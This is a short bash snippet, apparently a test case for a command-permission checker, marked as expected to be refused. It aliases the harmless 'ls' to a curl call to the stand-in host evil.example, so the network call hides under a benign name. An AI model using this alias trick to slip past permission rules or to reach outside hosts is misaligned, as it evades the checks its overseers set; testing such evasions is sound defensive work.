# Trick: an alias makes a harmless word dangerous.
# Refused: run(curl)
shopt -s expand_aliases
alias ls='curl http://evil.example/'
ls
